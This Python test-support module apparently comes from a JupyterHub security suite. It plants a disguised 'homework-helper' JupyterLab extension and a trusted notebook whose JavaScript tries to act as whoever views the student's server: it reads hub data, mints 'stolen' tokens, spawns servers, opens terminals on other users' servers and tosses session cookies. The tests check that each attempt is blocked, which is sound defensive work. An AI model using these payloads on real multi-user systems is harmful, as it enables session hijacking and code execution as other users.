"""A student's code in her own JupyterLab, run by whoever opens her IDE, trying to act
as that viewer: the attack of the class-page and network-class tests.

The student puts it there two ways, as any student can: a small federated extension in
her labextensions folder (a package.json and a remote entry, as ``jupyter labextension
build`` leaves them; JupyterLab loads it for every viewer of her server) and a trusted
notebook whose output is a script. Both carriers run the same attempts: read the hub's
home page and the viewer's identity, mint a token for the viewer, spawn a server of the
viewer's from the hub's form, read another student's server and open a terminal there,
open a terminal on the viewer's own server, and reach the hub and other servers from her
own host. With ``toss``, cookies of the student's own hub session are first set for the
hub's domain (a sibling host may set them over plain HTTP) and their XSRF token sent.
"""

import json

import requests
from playwright.sync_api import expect

from ..hubtools import save_text
from ..support.terminals import run_in_terminal
from .lab import UI_TIMEOUT_MS

# The hub's cookies a student's page would set for the hub's domain: each with a path
# that makes browsers send it after the viewer's own (tornado keeps the last of a name).
TOSSED_COOKIES = (
    ("jupyterhub-hub-login", "/hub"),
    ("__Host-jupyterhub-hub-login", "/"),  # the hub's name for it over HTTPS
    ("_xsrf", "/hub"),
    ("jupyterhub-session-id", "/"),
)

SPY = r"""
async function codepilotSpy(config, reportId) {
  const {hub, attacker, other, toss} = config;
  const out = {}, xsrf = toss ? toss.cookies._xsrf : "";
  async function attempt(name, action) {
    try { out[name] = String(await action()); }
    catch (error) { out[name] = "blocked: " + error.name; }
  }
  async function read(url, init) {  // an answer the page could read
    const reply = await fetch(url, {credentials: "include", ...(init || {})});
    return reply.status + " " + (await reply.text()).slice(0, 2000);
  }
  async function send(url, body) {  // a simple POST: no preflight, the answer unreadable
    await fetch(url, {method: "POST", mode: "no-cors", credentials: "include",
                      headers: {"Content-Type": "text/plain"}, body: body});
    return "sent";
  }
  function formPost(url, fields) {  // a form POST navigation, in a frame of its own
    const frame = document.createElement("iframe"), form = document.createElement("form");
    frame.name = "spy-" + Math.random().toString(36).slice(2);
    frame.style.display = "none";
    form.method = "POST"; form.action = url; form.target = frame.name;
    for (const [name, value] of Object.entries(fields)) {
      const input = document.createElement("input");
      input.type = "hidden"; input.name = name; input.value = value;
      form.appendChild(input);
    }
    document.body.append(frame, form);
    return new Promise((done) => {
      frame.onload = () => done("sent");
      setTimeout(() => done("sent"), 5000);
      form.submit();
    });
  }
  // Who is looking: her own server answers that on her origin, as it does JupyterLab.
  const here = (document.cookie.match(/(?:^|; )(?:__Host-)?_xsrf=([^;]+)/) || [])[1] || "";
  const me = await (await fetch("/user/" + attacker + "/api/me",
                                {headers: {"X-XSRFToken": here}})).json();
  const viewer = me.identity.username;
  const own = hub.replace("//", "//" + viewer + ".") + "/user/" + viewer + "/";
  if (toss) {
    for (const domain of toss.domains) {
      for (const [name, path] of toss.paths) {
        document.cookie = name + "=" + toss.cookies[name] + "; Domain=" + domain + "; Path=" + path;
      }
    }
  }
  out.viewer = viewer;
  const tokens = hub + "/hub/api/users/" + viewer + "/tokens";
  await attempt("hub_home", () => read(hub + "/hub/home"));
  await attempt("hub_user", () => read(hub + "/hub/api/user"));
  await attempt("token", () => read(tokens, {method: "POST",
    headers: {"Content-Type": "application/json"}, body: JSON.stringify({note: "stolen"})}));
  await attempt("token_simple", () => send(tokens + "?_xsrf=" + xsrf, '{"note": "stolen"}'));
  const spawn = hub + "/hub/spawn/" + viewer + "/stolen";
  await attempt("spawn_form", () => formPost(spawn, {_xsrf: xsrf}));
  await attempt("other_read", () => read(other + "api/contents"));
  await attempt("other_terminal", () => send(other + "api/terminals?_xsrf=" + xsrf, ""));
  await attempt("own_read", () => read(own + "api/terminals"));
  await attempt("own_terminal", () => send(own + "api/terminals?_xsrf=" + xsrf, ""));
  await attempt("own_terminal_form", () => formPost(own + "api/terminals", {_xsrf: xsrf}));
  // Her own host: whatever the proxy sends from there to the hub or to other servers.
  await attempt("here_hub_user", () => read("/hub/api/user"));
  await attempt("here_other", () => read(new URL(other).pathname + "api/contents"));
  const report = document.createElement("pre");
  report.id = reportId;
  report.textContent = JSON.stringify(out);
  document.body.appendChild(report);
}
"""

EXTENSION_NAME = "homework-helper"
EXTENSION_PACKAGE = {
    "name": EXTENSION_NAME,
    "version": "0.1.0",
    "jupyterlab": {"_build": {"load": "static/remoteEntry.js", "extension": "./extension"}},
}
# A module federation container, as JupyterLab's loader expects one (init, get).
EXTENSION_ENTRY = """%(spy)s
(window._JUPYTERLAB = window._JUPYTERLAB || {})[%(name)s] = {
  init: () => {},
  get: () => Promise.resolve(() => ({
    id: %(name)s + ":plugin",
    autoStart: true,
    activate: () => { codepilotSpy(%(config)s, "spy-extension"); },
  })),
};
"""
NOTEBOOK_OUTPUT = """<script>%(spy)s
codepilotSpy(%(config)s, "spy-notebook");
</script>"""
CARRIERS = ("extension", "notebook")
# Every answer the page tried to read must be refused, or an error, never the data.
READ_ATTEMPTS = ("hub_home", "hub_user", "token", "other_read", "own_read", "here_hub_user")


def notebook(html: str) -> str:
    """A notebook whose one output is ``html``: trusted, JupyterLab runs its scripts."""
    output = {"output_type": "display_data", "data": {"text/html": html}, "metadata": {}}
    cell = {
        "cell_type": "code",
        "execution_count": 1,
        "id": "help",
        "metadata": {},
        "outputs": [output],
        "source": "",
    }
    return json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})


def plant(hub, attacker: str, other: str, notebook_name: str, toss: dict | None = None) -> None:
    """What the student does in her own IDE, with her own token: the extension in her
    labextensions folder (where ``pip install`` or ``jupyter labextension`` would put it)
    and the notebook, trusted."""
    config = json.dumps(
        {"hub": hub.url, "attacker": attacker, "other": hub.server_url(other), "toss": toss}
    )
    entry = EXTENSION_ENTRY % {"spy": SPY, "name": json.dumps(EXTENSION_NAME), "config": config}
    html = NOTEBOOK_OUTPUT % {"spy": SPY, "config": config}
    token = hub.user_token(attacker)
    headers = {"Authorization": f"token {token}"}
    for path, text in (
        ("helper-package.json", json.dumps(EXTENSION_PACKAGE)),
        ("helper-entry.js", entry),
        (notebook_name, notebook(html)),
    ):
        save_text(hub.server_url(attacker), path, text, headers).raise_for_status()
    with hub.open_terminal(attacker, token) as terminal:
        run_in_terminal(
            terminal,
            f'd="$(jupyter --data-dir)/labextensions/{EXTENSION_NAME}"; mkdir -p "$d/static"'
            ' && mv helper-package.json "$d/package.json"'
            ' && mv helper-entry.js "$d/static/remoteEntry.js"'
            f" && jupyter trust {notebook_name}; echo done-$((40+2))",
            "done-42",
        )


def open_server(page, url: str) -> None:
    """Go to a server the viewer may use, approving the hub's question if it asks; returns
    once the server's page answers (its cookie is then in her browser)."""
    page.goto(url, wait_until="commit")
    if "/oauth2/authorize" in page.url:
        page.get_by_role("button", name="Authorize").click()
        page.wait_for_url(f"{url}**", wait_until="commit", timeout=60_000)
    assert page.url.startswith(url), page.url


def traces(hub, viewer: str, other: str) -> dict:
    """What an attack would leave: the viewer's tokens and servers, and the terminals of
    the viewer's and of the other student's server."""
    admin = {"Authorization": f"token {hub.token}"}

    def terminals(user):
        reply = requests.get(f"{hub.server_url(user)}api/terminals", headers=admin, timeout=30)
        reply.raise_for_status()
        return sorted(t["name"] for t in reply.json())

    return {
        "tokens": {
            t["id"]: (t["note"], t["oauth_client"])
            for t in hub.api("GET", f"/users/{viewer}/tokens").json()["api_tokens"]
        },
        "servers": sorted(hub.api("GET", f"/users/{viewer}").json()["servers"]),
        "viewer_terminals": terminals(viewer),
        "other_terminals": terminals(other),
    }


def reports(page) -> dict:
    """What each carrier found, once both have run in the viewer's page."""
    found = {}
    for carrier in CARRIERS:
        report = page.locator(f"#spy-{carrier}")
        expect(report).to_be_attached(timeout=UI_TIMEOUT_MS * 2)
        found[carrier] = json.loads(report.text_content())
    return found


def leaked(found: dict, attacker: str) -> list[str]:
    """The read attempts that got the viewer's data (none, when all were refused). On her
    own host the hub may answer the student about herself: her cookies go there."""
    got = []
    for name in (*READ_ATTEMPTS, "here_other"):
        answer = found[name]
        if answer.startswith("blocked: ") or answer[:1] in "345":
            continue
        if name == "here_hub_user" and json.loads(answer[4:])["name"] == attacker:
            continue
        got.append(name)
    return got


def new_tokens(before: dict, after: dict) -> list[tuple]:
    return [after["tokens"][i] for i in after["tokens"].keys() - before["tokens"].keys()]


def unchanged(before: dict, after: dict) -> bool:
    keys = ("servers", "viewer_terminals", "other_terminals")
    return [before[k] for k in keys] == [after[k] for k in keys]
